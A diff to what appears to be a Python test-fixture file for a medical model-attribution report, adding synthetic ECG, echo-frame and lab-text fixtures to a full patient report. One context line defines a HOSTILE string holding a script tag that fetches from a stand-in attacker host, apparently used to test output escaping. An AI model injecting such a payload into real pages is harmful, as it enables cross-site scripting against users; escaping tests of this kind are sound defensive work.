@@ -12,10 +12,18 @@ from analysis.attribution.attention import LabelledAttention
 from analysis.attribution.case import Subject
 from analysis.attribution.export import provenance
 from analysis.attribution.result import Attribution, VolumeMap
+from analysis.attribution.signal import SignalMap
+from analysis.attribution.video import VideoMap
+from analysis.cohort.readers.echo import Cine
+from analysis.cohort.readers.signal import Signal
 from analysis.cohort.readers.volume import Volume
+from analysis.echo import CycleMarks
 from analysis.outlook import SurvivalOutlook
 from app.figures import ledger, outlook
 from app.figures.ct_slices import slices_png
+from app.figures.ecg_svg import ecg_svg
+from app.figures.echo_frames import frame_pairs, legend
+from app.figures.told import told_html
 from app.report import (
     Chart,
     ModalityPart,
@@ -27,6 +35,7 @@ from app.report import (
     part_tables,
     quality,
 )
+from app.report_blocks import EcgSheet, EchoFrames, EchoView, ToldText
 
 HOSTILE = "<script>fetch('//evil.example/x')</script>\"'&"
 HASH = "4be1c0ffee" * 6 + "abcd"
@@ -145,6 +154,120 @@ def survival_outlook() -> SurvivalOutlook:
     )
 
 
+LEADS = ("I", "II", "III", "aVR", "aVL", "aVF", "V1", "V2", "V3", "V4", "V5", "V6")
+
+
+def ecg(rate_hz: float = 500.0, seconds: float = 10.0) -> Signal:
+    """Every lead 0 mV but for I, which is +1 mV from 1.0 to 1.2 s; V5 and V6 not recorded, and
+    nothing in III from 0.5 to 1.0 s.
+    """
+    time = np.arange(round(rate_hz * seconds)) / rate_hz
+    array = np.zeros((12, len(time)), np.float32)
+    array[0, (time >= 1.0) & (time < 1.2)] = 1
+    array[2, (time >= 0.5) & (time < 1.0)] = np.nan
+    array[10:] = np.nan
+    return Signal(LEADS, array, rate_hz, None, LEADS)
+
+
+def ecg_map(signed: bool = False) -> SignalMap:
+    """100 steps of 0.1 s: in I the largest value from 1.0 to 1.2 s; in V4 half of it at 8 s."""
+    values = np.zeros((12, 100), np.float32)
+    values[0, 10:12] = 0.5
+    values[9, 80] = -0.25 if signed else 0.25
+    return SignalMap(
+        subject=SUBJECT,
+        modality="ecg",
+        method="integrated_gradients" if signed else "gradcam",
+        layer=None if signed else "stem",
+        target=TARGET,
+        leads=LEADS,
+        values=values,
+        step_s=0.1,
+        signed=signed,
+        whole=0.4,
+    )
+
+
+def echo(frames: int = 20, size: tuple[int, int] = (60, 80)) -> Cine:
+    """Grey frames of 50 ms, each a little lighter than the one before."""
+    grey = np.arange(40, 40 + frames, dtype=np.uint8)[:, None, None, None]
+    pictures = np.broadcast_to(grey, (frames, *size, 3)).copy()
+    return Cine(pictures, np.arange(frames) * 50.0, "A4C", False, 0.5)
+
+
+def echo_map() -> VideoMap:
+    """Of 16 frames of A4C, the largest value in the lower right quarter of the second half."""
+    values = np.zeros((1, 2, 2, 2), np.float32)
+    values[0, 1, 1, 1] = 0.4
+    return VideoMap(
+        subject=SUBJECT,
+        modality="echo",
+        method="gradcam",
+        layer="stem",
+        target=TARGET,
+        views=("A4C",),
+        values=values,
+        frames=4,
+        stride=2,
+        whole=0.4,
+    )
+
+
+def told(words: str = "") -> Attribution:
+    """One sentence of a told table."""
+    parts = pd.DataFrame(
+        {
+            "word": ["BNP", "is", words or "900", "."],
+            "is_value": [False, False, True, False],
+            "sentence": 0,
+            "name": "bnp",
+            "title": "BNP",
+            "value": 900.0,
+            "unit": "pg/mL",
+        }
+    )
+    shares = np.array([0.0, 0.1, 0.4, 0.0])
+    return Attribution(
+        subject=SUBJECT,
+        modality="labs",
+        kind="text",
+        method="permutation",
+        target=TARGET,
+        parts=parts,
+        values=shares[:, None],
+        whole=np.array([0.5]),
+        reference=np.array([0.0]),
+    )
+
+
+def heart_parts(words: str = "") -> list[ModalityPart]:
+    """An ECG on its sheet, an echo in frames and labs told in words."""
+    sheet = EcgSheet(
+        svg=ecg_svg(ecg(), ecg_map(), f"ECG {words}", ("nothing", f"most {words}"), words),
+        title=f"ECG {words}",
+        measures=[("Rate", "54 bpm"), (f"QT {words}", "–")],
+        caption=f"9 beats {words}",
+    )
+    pairs = frame_pairs("A4C", echo(), CycleMarks((2,), (), "file"), echo_map())
+    views = [
+        EchoView(title=f"Apical {words}", share="100% of the map", frames=pairs),
+        EchoView(title="Subcostal", note=f"not recorded {words}"),
+    ]
+    frames = EchoFrames(
+        title=f"Echo {words}",
+        views=views,
+        legend=legend(echo_map(), ("nothing", f"most {words}")),
+        caption=words,
+    )
+    text = ToldText(title=f"Told {words}", body=told_html(told(words)))
+    leads = Table("By lead (9 beats)", ["Lead", "Share"], [[f"I {words}", "80%"]], [1])
+    return [
+        ModalityPart(title=f"ECG {words}", summary=words, blocks=[sheet], tables=[leads]),
+        ModalityPart(title=f"Echo {words}", blocks=[frames], notes=[words]),
+        ModalityPart(title=f"Labs {words}", blocks=[text]),
+    ]
+
+
 def full_report(*, words: str = "", outcome: str | None = None) -> PatientReport:
     """words: put into every text that comes from a file."""
     volume = scan()
@@ -205,6 +328,7 @@ def full_report(*, words: str = "", outcome: str | None = None) -> PatientReport
                 cards={"Event shares": Card("good", ("AUROC of causal codes 0.93.",))},
                 notes=[quality(shares), words],
             ),
+            *heart_parts(words),
         ],
         what_if=Table.of(
             pd.DataFrame({"Change": [f"Without CT {words}"], "Log-risk": [0.2321]}),
